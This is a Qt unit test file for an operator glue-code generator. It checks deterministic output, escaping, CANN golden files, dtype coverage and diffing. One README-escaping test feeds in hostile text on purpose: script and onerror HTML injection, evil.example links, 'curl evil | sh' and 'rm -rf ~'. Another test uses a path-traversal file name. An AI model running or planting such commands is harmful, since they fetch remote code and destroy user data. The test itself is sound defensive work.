// Glue generation without running it (tst_glue runs it): determinism, escaping, the CANN
// golden files, and a structural check that every parameter and dtype reaches every
// graph-compiler file.
#include "codegen/glue.h"
#include "project/glue_generation.h"
#include "project/project_sources.h"
#include "spec/dtype_combinations.h"
#include "text/template_text.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>
#include <map>
#include <nlohmann/json.hpp>

using namespace ptowb;
using codegen::GeneratedFile;

namespace {

ProjectSources sourcesOf(const QString& folder)
{
    std::string error;
    auto project = Project::open(folder.toStdString(), error);
    if (!project) qFatal("%s", error.c_str());
    return readProjectSources(*project);
}

std::vector<GeneratedFile> glueOf(const ProjectSources& sources)
{
    return codegen::generateGlue(sources.glueSource());
}

const GeneratedFile* find(const std::vector<GeneratedFile>& files, const std::string& suffix)
{
    for (const auto& f : files)
        if (f.path.size() >= suffix.size() &&
            f.path.compare(f.path.size() - suffix.size(), suffix.size(), suffix) == 0)
            return &f;
    return nullptr;
}

QStringList projectFolders()
{
    QStringList out;
    for (const char* name : {"scale_gelu", "softmax", "matmul_bias"})
        out << QStringLiteral(PTOWB_SOURCE_DIR "/projects/") + QString::fromLatin1(name);
    out << QStringLiteral(PTOWB_TEST_DATA "/glue_hostile");
    return out;
}

} // namespace

class TestCodegen : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void deterministic()
    {
        for (const QString& folder : projectFolders()) {
            const auto sources = sourcesOf(folder);
            QVERIFY2(sources.usable(), qPrintable(folder));
            const auto a = glueOf(sources), b = glueOf(sources);
            QCOMPARE(a.size(), b.size());
            for (std::size_t k = 0; k < a.size(); ++k) {
                QCOMPARE(a[k].path, b[k].path);
                QVERIFY2(a[k].content == b[k].content, a[k].path.c_str());
                // The description's hash, never a timestamp.
                // (msOpGen's JSON format has no place for a comment.)
                if (a[k].path.find("_reference.py") == std::string::npos &&
                    a[k].path.find(".json") == std::string::npos)
                    QVERIFY2(a[k].content.find("sha256") != std::string::npos, a[k].path.c_str());
            }
        }
    }

    void everyFileChangesWithTheDescription()
    {
        auto sources = sourcesOf(QStringLiteral(PTOWB_SOURCE_DIR "/projects/scale_gelu"));
        const auto before = glueOf(sources);
        sources.opJson += " ";
        const auto after = glueOf(sources);
        for (std::size_t k = 0; k < before.size(); ++k)
            if (before[k].path.find("_reference.py") == std::string::npos &&
                before[k].path.find(".json") == std::string::npos)
                QVERIFY2(before[k].content != after[k].content, before[k].path.c_str());
    }

    void templatesDoNotRescanValues()
    {
        QCOMPARE(fillTemplate("a @X@ b @Y@ @Z c", {{"X", "@Y@"}, {"Y", "2"}}),
                 std::string("a @Y@ b 2 @Z c"));
        QCOMPARE(fillTemplate("@@X@@", {{"X", "1"}}), std::string("@1@"));
    }

    void hostileTextStaysInsideLiterals()
    {
        const auto sources = sourcesOf(QStringLiteral(PTOWB_TEST_DATA "/glue_hostile"));
        QVERIFY(sources.usable());
        const auto files = glueOf(sources);
        const std::string& doc = sources.loaded.spec.doc;
        QVERIFY(doc.find("*/") != std::string::npos && doc.find('\n') != std::string::npos);
        // No raw line break of the description appears in any generated source: every copy of
        // the text is an escaped literal (the verbatim reference and README excepted).
        for (const auto& f : files) {
            if (f.path.find("_reference.py") != std::string::npos) continue;
            QVERIFY2(f.content.find("backslash \\ newline\n") == std::string::npos, f.path.c_str());
            // C and C++ comments never hold description text: a "*/" only appears after a quote.
            if (f.path.find(".py") != std::string::npos ||
                f.path.find(".json") != std::string::npos)
                continue;
            std::size_t at = 0;
            while ((at = f.content.find("*/", at)) != std::string::npos) {
                const std::size_t lineStart = f.content.rfind('\n', at) + 1;
                QVERIFY2(f.content.find('"', lineStart) < at, f.path.c_str());
                at += 2;
            }
        }
        // The Python module parses, and DOC round-trips exactly (Debian's python3, no torch
        // needed).
        const GeneratedFile* module = find(files, "__init__.py");
        QVERIFY(module);
        QFile script(QDir::temp().filePath(QStringLiteral("ptowb_codegen_parse.py")));
        QVERIFY(script.open(QIODevice::WriteOnly));
        script.write("import ast, sys\n"
                     "tree = ast.parse(open(sys.argv[1], encoding='ascii').read())\n"
                     "node = [n for n in tree.body if isinstance(n, ast.Assign) and "
                     "getattr(n.targets[0], 'id', '') == 'DOC'][0]\n"
                     "sys.stdout.buffer.write(eval(compile(ast.Expression(node.value), 'DOC', "
                     "'eval')).encode('utf-8'))\n");
        script.close();
        QFile moduleFile(QDir::temp().filePath(QStringLiteral("ptowb_codegen_module.py")));
        QVERIFY(moduleFile.open(QIODevice::WriteOnly));
        moduleFile.write(QByteArray::fromStdString(module->content));
        moduleFile.close();
        QProcess python;
        python.start(QStringLiteral("/usr/bin/python3"),
                     {script.fileName(), moduleFile.fileName()});
        QVERIFY(python.waitForFinished(30000));
        QCOMPARE(python.exitCode(), 0);
        QCOMPARE(python.readAllStandardOutput().toStdString(), doc);
    }

    // The package README shows the op's description as written where Markdown would not read
    // anything into it, and escapes what would open a link, image, HTML tag, heading, list,
    // code block or table.
    void readmeShowsTheDescriptionAsData()
    {
        const auto sources = sourcesOf(QStringLiteral(PTOWB_SOURCE_DIR "/projects/scale_gelu"));
        const codegen::GlueSource base = sources.glueSource();
        auto readmeDoc = [&](const std::string& doc) {
            OpSpec spec = sources.loaded.spec;
            spec.doc = doc;
            const std::string readme = codegen::generatePackageReadme(
                codegen::GlueSource{spec, base.opJson, base.kernel, base.reference});
            const std::size_t from = readme.find("\n\n") + 2;
            return readme.substr(from, readme.find("\n\nGenerated by PTO Workbench") - from);
        };

        const std::string plain = "y = gelu(x) * scale, elementwise (tanh form); x.shape == "
                                  "y.shape; -1 and #2 are fine: \"quoted\", it's 3.14!";
        QCOMPARE(readmeDoc(plain), std::string("y = gelu(x) \\* scale, elementwise (tanh form); "
                                               "x.shape == y.shape; -1 and #2 are fine: "
                                               "\"quoted\", it's 3.14!"));

        const std::string hostile = "<script>alert(1)</script> <img src=x onerror=run()>\n"
                                    "[click here](http://evil.example/run.sh) "
                                    "![logo](https://evil.example/x.png)\n"
                                    "# Install\n"
                                    "   ## Run `curl evil | sh`\n"
                                    "1. step one\n"
                                    "2) step two\n"
                                    "- item\n"
                                    "+ item\n"
                                    "> quote\n"
                                    "text\n"
                                    "===\n"
                                    "---\n"
                                    "```sh\n"
                                    "rm -rf ~\n"
                                    "```\n"
                                    "    indented code\n"
                                    "| a | b |\n"
                                    "|---|---|\n"
                                    "see www.evil.example, https://evil.example or me@evil.example "
                                    "&#x202E; *bold* _it_ ~~gone~~ \\";
        const std::string doc = readmeDoc(hostile);
        std::vector<std::string> lines;
        for (std::size_t at = 0; at <= doc.size();) {
            const std::size_t nl = std::min(doc.find('\n', at), doc.size());
            lines.push_back(doc.substr(at, nl - at));
            at = nl + 1;
        }
        for (const std::string& line : lines) {
            QVERIFY2(!line.empty() && line[0] != ' ' && line[0] != '\t', line.c_str());
            // Every character that opens a block at a line's start is escaped.
            QVERIFY2(std::string("#-+=>|`~*_<[").find(line[0]) == std::string::npos, line.c_str());
            const std::size_t digits = line.find_first_not_of("0123456789");
            QVERIFY2(digits == 0 || (line[digits] != '.' && line[digits] != ')'), line.c_str());
        }
        // Nothing that opens an inline structure is left unescaped.
        for (std::size_t k = 0; k < doc.size(); ++k) {
            if (doc[k] == '\\') {
                ++k; // an escape and what it escapes
                continue;
            }
            QVERIFY2(std::string("<>[]`*_|&~@").find(doc[k]) == std::string::npos,
                     doc.substr(k).c_str());
            QVERIFY2(doc.compare(k, 3, "://") != 0 && doc.compare(k, 4, "www.") != 0,
                     doc.substr(k).c_str());
        }
        QVERIFY(doc.find("\\[click here\\](http\\://evil.example/run.sh)") != std::string::npos);
        QVERIFY(doc.find("\n\\# Install\n\\## Run \\`curl evil \\| sh\\`\n1\\. step one\n2\\) step "
                         "two\n\\- item\n\\+ item\n\\> quote\ntext\n\\===\n\\---\n\\`\\`\\`sh\n") !=
                std::string::npos);
        QVERIFY(doc.ends_with("\\~\\~gone\\~\\~ \\\\"));
    }

    void dtypeCombinationsFollowConstraints()
    {
        // matmul_bias: a and b must share a dtype, so (float16, bfloat16) is not a combination.
        const auto sources = sourcesOf(QStringLiteral(PTOWB_SOURCE_DIR "/projects/matmul_bias"));
        const auto combos = dtypeCombinations(sources.loaded.spec);
        QCOMPARE(combos.size(), std::size_t(2));
        for (const auto& c : combos) {
            QCOMPARE(c.inputs[0], c.inputs[1]);
            QCOMPARE(c.outputs[0], DType::Float32);
        }
        // scale_gelu: y follows x, so both float16 and float32 are listed for the output.
        const auto gelu = dtypeCombinations(
            sourcesOf(QStringLiteral(PTOWB_SOURCE_DIR "/projects/scale_gelu")).loaded.spec);
        QCOMPARE(outputDTypes(gelu, 0), (std::vector<DType>{DType::Float16, DType::Float32}));
    }

    void cannMatchesGoldenFiles_data()
    {
        QTest::addColumn<QString>("folder");
        QTest::newRow("scale_gelu") << QStringLiteral(PTOWB_SOURCE_DIR "/projects/scale_gelu");
        QTest::newRow("matmul_bias") << QStringLiteral(PTOWB_SOURCE_DIR "/projects/matmul_bias");
        QTest::newRow("hostile") << QStringLiteral(PTOWB_TEST_DATA "/glue_hostile");
    }

    // Generated graph-compiler files are reviewed as golden files (tst_cann_* compile and run
    // them): every generated file has its golden and every golden is still generated.
    // PTOWB_UPDATE_GOLDEN=1 rewrites them after an intended change.
    void cannMatchesGoldenFiles()
    {
        QFETCH(QString, folder);
        const QString golden = QStringLiteral(PTOWB_TEST_DATA "/glue_golden/") +
                               QString::fromLatin1(QTest::currentDataTag());
        std::map<QString, std::string> generated;
        for (const auto& f : glueOf(sourcesOf(folder)))
            if (f.path.rfind("cann/", 0) == 0)
                generated[QString::fromStdString(f.path)] = f.content;
        QVERIFY2(!generated.empty(), "no CANN file was generated");
        if (qEnvironmentVariableIsSet("PTOWB_UPDATE_GOLDEN")) {
            QDir(golden).removeRecursively();
            for (const auto& [path, content] : generated) {
                const QString file = QDir(golden).filePath(path);
                QDir().mkpath(QFileInfo(file).absolutePath());
                QFile out(file);
                QVERIFY(out.open(QIODevice::WriteOnly));
                out.write(QByteArray::fromStdString(content));
            }
            return;
        }
        QStringList goldens;
        QDirIterator it(golden, QDir::Files, QDirIterator::Subdirectories);
        while (it.hasNext())
            goldens << QDir(golden).relativeFilePath(it.next());
        goldens.sort();
        QStringList names;
        for (const auto& entry : generated)
            names << entry.first;
        QCOMPARE(names, goldens);
        for (const auto& [path, content] : generated) {
            QFile in(QDir(golden).filePath(path));
            QVERIFY2(in.open(QIODevice::ReadOnly), qPrintable(in.fileName()));
            QVERIFY2(
                in.readAll().toStdString() == content,
                qPrintable(in.fileName() + QStringLiteral(" differs from the generated file")));
        }
    }

    void everyParameterAndDTypeReachesEveryCannFile()
    {
        for (const QString& folder : projectFolders()) {
            const auto sources = sourcesOf(folder);
            const OpSpec& spec = sources.loaded.spec;
            const auto files = glueOf(sources);
            const auto combos = dtypeCombinations(spec);
            auto has = [&](const std::string& suffix, const std::string& text) {
                const GeneratedFile* f = find(files, suffix);
                if (!f) qFatal("no %s", suffix.c_str());
                if (f->content.find(text) == std::string::npos)
                    qWarning("%s lacks %s", f->path.c_str(), text.c_str());
                return f->content.find(text) != std::string::npos;
            };
            for (const auto& p : spec.params) {
                QVERIFY(has("_proto.h",
                            "ATTR(" + p.name + ", " + std::string(paramTypeInfo(p.type).cann)));
                QVERIFY(has("op_host/" + spec.name + ".cpp",
                            "Attr(\"" + p.name + "\").AttrType(" +
                                (p.defaultValue ? "OPTIONAL" : "REQUIRED") + ")." +
                                std::string(paramTypeInfo(p.type).cann)));
                // From the parser's "attribute" JSON, as Ascend's parser delivers ONNX attributes.
                QVERIFY(has("_plugin.cc", "(\"" + p.name + "\", value, error)"));
                QVERIFY(has("_plugin.cc", "SetAttr(\"" + p.name + "\""));
                QVERIFY(has(".ini", "attr_" + p.name +
                                        ".type=" + std::string(paramTypeInfo(p.type).cannIni)));
                QVERIFY(has(spec.name + ".json", "\"name\": \"" + p.name + "\""));
            }
            for (std::size_t k = 0; k < spec.inputs.size(); ++k)
                for (DType d : spec.inputs[k].dtypes) {
                    QVERIFY(has("_proto.h", "TensorType({" + std::string(dtypeInfo(d).cann)) ||
                            has("_proto.h", ", " + std::string(dtypeInfo(d).cann)));
                    QVERIFY(has("op_host/" + spec.name + ".cpp",
                                "ge::" + std::string(dtypeInfo(d).cann)));
                    QVERIFY(has(".ini", std::string(dtypeInfo(d).cannIni)));
                    QVERIFY(
                        has(spec.name + ".json", "\"" + std::string(dtypeInfo(d).cannIni) + "\""));
                }
            for (std::size_t k = 0; k < spec.outputs.size(); ++k)
                for (DType d : outputDTypes(combos, k))
                    QVERIFY(has("_proto.h", std::string(dtypeInfo(d).cann)));
            for (const auto& soc : spec.targets.soc) {
                std::string lower = soc;
                for (char& c : lower)
                    c = char(std::tolower(static_cast<unsigned char>(c)));
                QVERIFY(has("op_host/" + spec.name + ".cpp", "AddConfig(\"" + lower + "\")"));
            }
            for (const auto& f : files)
                QVERIFY2(f.content.find("DT_DT_") == std::string::npos, f.path.c_str());
            // The msOpGen file is JSON whose dtype columns line up with the combinations.
            const auto json = nlohmann::json::parse(find(files, spec.name + ".json")->content);
            QCOMPARE(json[0]["op"].get<std::string>(), spec.opType);
            for (const auto& desc : json[0]["input_desc"])
                QCOMPARE(desc["type"].size(), combos.size());
        }
    }

    // The glue's diff against its previous generation: unified hunks as diff -u writes them.
    void lineDiff()
    {
        QVERIFY(diffLines("a\nb\n", "a\nb\n").identical());
        QCOMPARE(diffLines("a\nb\n", "a\nb\n").unified("f"), std::string());
        std::string before, after;
        for (int k = 1; k <= 20; ++k) {
            before += "line " + std::to_string(k) + "\n";
            after += (k == 5 ? "changed 5" : "line " + std::to_string(k)) + "\n";
            if (k == 18) after += "inserted\n";
        }
        const LineDiff diff = diffLines(before, after);
        QCOMPARE(diff.added, 2);
        QCOMPARE(diff.removed, 1);
        QCOMPARE(diff.hunks.size(), std::size_t(2)); // 12 equal lines apart: two hunks
        QCOMPARE(diff.unified("x.py"),
                 std::string("--- a/x.py\n+++ b/x.py\n"
                             "@@ -2,7 +2,7 @@\n line 2\n line 3\n line 4\n-line 5\n+changed 5\n "
                             "line 6\n line 7\n line 8\n"
                             "@@ -16,5 +16,6 @@\n line 16\n line 17\n line 18\n+inserted\n line "
                             "19\n line 20\n"));
        // From and to nothing; a missing final newline; CRLF stays part of the line.
        QCOMPARE(diffLines("", "a\nb").unified("n"),
                 std::string("--- a/n\n+++ b/n\n@@ -0,0 +1,2 @@\n+a\n+b\n"));
        QCOMPARE(diffLines("a\n", "").unified("n"),
                 std::string("--- a/n\n+++ b/n\n@@ -1 +0,0 @@\n-a\n"));
        QCOMPARE(diffLines("a\r\nb\n", "a\nb\n").removed, 1);
        // The same hunks as diff -u writes (and git diff, which agrees with it).
        QTemporaryDir dir;
        const QString a = dir.filePath(QStringLiteral("a")), b = dir.filePath(QStringLiteral("b"));
        for (const auto& [path, text] : {std::pair{a, before}, std::pair{b, after}}) {
            QFile f(path);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write(QByteArray::fromStdString(text));
        }
        QProcess reference; // diffutils: on every Debian system
        reference.start(QStringLiteral("diff"), {QStringLiteral("-u"), a, b});
        QVERIFY2(reference.waitForFinished(10000), qPrintable(reference.errorString()));
        QCOMPARE(reference.exitStatus(), QProcess::NormalExit);
        QCOMPARE(reference.exitCode(), 1); // the files differ
        const QString expected =
            QString::fromUtf8(reference.readAllStandardOutput()).section(QLatin1Char('\n'), 2);
        QCOMPARE(QString::fromStdString(diff.unified("x")).section(QLatin1Char('\n'), 2), expected);
    }

    void glueGenerations()
    {
        const std::vector<GeneratedFile> first{
            {"a.py", "x = 1\n"}, {"gone.txt", "old\n"}, {"same.h", "int a;\n"}};
        const std::vector<GeneratedFile> second{
            {"a.py", "x = 2\n"}, {"new.json", "{}\n"}, {"same.h", "int a;\n"}};
        const auto changes = compareGenerations(first, second);
        QCOMPARE(changes.size(), std::size_t(4));
        using Status = GlueFileChange::Status;
        QCOMPARE(changes[0].path, std::string("a.py"));
        QCOMPARE(int(changes[0].status), int(Status::Changed));
        QCOMPARE(changes[0].diff.added, 1);
        QCOMPARE(int(changes[1].status), int(Status::Removed));
        QCOMPARE(int(changes[2].status), int(Status::Added));
        QCOMPARE(int(changes[3].status), int(Status::Unchanged));

        // Replacing the folder drops what the new generation no longer has.
        QTemporaryDir dir;
        const std::string folder = dir.filePath(QStringLiteral("glue")).toStdString();
        QCOMPARE(replaceGeneratedFolder(first, folder), std::string());
        QCOMPARE(readGeneratedFolder(folder).size(), std::size_t(3));
        QCOMPARE(replaceGeneratedFolder(second, folder), std::string());
        const auto read = readGeneratedFolder(folder);
        QCOMPARE(read.size(), std::size_t(3));
        QCOMPARE(read[0].path, std::string("a.py"));
        QCOMPARE(read[0].content, std::string("x = 2\n"));
        QCOMPARE(read[1].path, std::string("new.json"));
        // The replaced generation is kept beside it, for the diff against it.
        const auto previous = readGeneratedFolder(previousGenerationFolder(folder));
        QCOMPARE(previous.size(), std::size_t(3));
        QCOMPARE(previous[1].path, std::string("gone.txt"));
        QVERIFY(!QFileInfo::exists(QString::fromStdString(folder + ".new")) &&
                !QFileInfo::exists(QString::fromStdString(folder + ".old")));
        // A file that cannot be written keeps the previous generation whole.
        QCOMPARE(
            replaceGeneratedFolder({{"../../../../../../proc/nope/x", "y"}, {"a.py", "z"}}, folder)
                .empty(),
            false);
        QCOMPARE(readGeneratedFolder(folder).size(), std::size_t(3));
        QCOMPARE(readGeneratedFolder(folder)[0].content, std::string("x = 2\n"));
        QVERIFY(readGeneratedFolder(dir.filePath(QStringLiteral("missing")).toStdString()).empty());
    }
};

QTEST_GUILESS_MAIN(TestCodegen)
#include "tst_codegen.moc"
